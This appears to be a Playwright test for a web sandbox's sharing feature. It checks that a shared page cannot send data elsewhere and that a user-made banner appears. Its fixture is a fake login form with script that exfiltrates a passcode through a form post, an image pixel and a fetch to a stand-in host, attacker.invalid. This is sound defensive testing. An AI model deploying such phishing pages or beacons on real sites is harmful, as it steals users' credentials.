import { expect, test, type Request } from "@playwright/test";
import { SANDBOX_TEXTS } from "~/contract/sandbox-values";
import { editor, openFile } from "./code-support";
import { waitForHydration } from "./support";

/**
 * Issue 30: a visitor shares a WEB sandbox that poses as our login ("session expired, enter your
 * passcode") and tries every way to send what is typed elsewhere: a form post, an image, a
 * fetch. On the shared page, outside the preview, our own words say a user made it; and in
 * Chromium nothing leaves the preview: no request at all reaches the other host.
 */
const LANDING = "/web-sandbox/landing-page";
const ELSEWHERE = "attacker.invalid";
/** How Chromium (through Playwright) names a request its CSP refused. */
const BLOCKED_BY_CSP = new Set(["csp", "net::ERR_BLOCKED_BY_CSP"]);

const PHISHING_PAGE = `<h1>Your session expired</h1>
<form id="login" action="https://${ELSEWHERE}/steal" method="post">
  <label>Passcode <input name="passcode" value="123456"></label>
  <button type="submit">Log in again</button>
</form>
<script>
  document.getElementById("login").addEventListener("submit", function () {
    console.log("submit tried");
  });
  var typed = encodeURIComponent("123456");
  var pixel = new Image();
  pixel.onload = function () { console.log("pixel loaded"); };
  pixel.onerror = function () { console.log("pixel refused"); };
  pixel.src = "https://${ELSEWHERE}/pixel.png?typed=" + typed;
  fetch("https://${ELSEWHERE}/beacon?typed=" + typed).then(
    function () { console.log("fetch sent"); },
    function () { console.log("fetch refused"); }
  );
</script>
`;

test("a visitor's shared preview: our banner outside it, no form post, no request elsewhere", async ({
  page,
  context,
}) => {
  // Chromium reports a request the CSP blocks too (then fails it as "csp"): each
  // request to the other host is kept with how it ended, and what reached the network apart.
  const attempts = new Map<Request, string>();
  const sent: string[] = [];
  const toElsewhere = (request: Request) => new URL(request.url()).hostname === ELSEWHERE;
  page.on("request", (request) => {
    if (toElsewhere(request)) attempts.set(request, "pending");
  });
  page.on("requestfailed", (request) => {
    if (toElsewhere(request)) attempts.set(request, request.failure()?.errorText ?? "failed");
  });
  page.on("requestfinished", (request) => {
    if (toElsewhere(request)) attempts.set(request, "sent");
  });
  await context.route(`https://${ELSEWHERE}/**`, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ status: 200, contentType: "text/html", body: "<p>posted</p>" });
  });

  await page.goto(LANDING);
  await openFile(page, "index.html");
  await (await editor(page)).fill(PHISHING_PAGE);
  await page.getByRole("button", { name: "Share" }).click();
  const link = page.getByTestId("share-link").getByRole("link");
  await expect(link).toHaveAttribute("href", /\/web-sandbox\/shared\//);
  const sharedUrl = (await link.getAttribute("href"))!;

  await page.goto(sharedUrl);
  await waitForHydration(page);
  const banner = page.getByRole("note").filter({ hasText: SANDBOX_TEXTS.sharedByUser });
  await expect(banner).toBeVisible();

  // The learner's document ran its script: the image and the fetch were refused by the CSP.
  const log = page.getByRole("log", { name: "Console output" });
  await expect(log).toContainText("pixel refused");
  await expect(log).toContainText("fetch refused");
  const preview = page.frameLocator("iframe[title=Preview]").frameLocator("iframe").last();
  await preview.getByRole("button", { name: "Log in again" }).click();
  // A click that could submit fires the submit event first; the sandbox blocks the post.
  await preview.getByRole("textbox", { name: "Passcode" }).press("Enter");
  await expect(preview.getByRole("heading", { name: "Your session expired" })).toBeVisible();

  // Every attempt ended blocked by the CSP, in the browser; none reached the network.
  await expect
    .poll(() => [...attempts.values()].filter((end) => !BLOCKED_BY_CSP.has(end)))
    .toEqual([]);
  expect(sent).toEqual([]);
  await expect(log).not.toContainText("pixel loaded");
  await expect(log).not.toContainText("fetch sent");
});
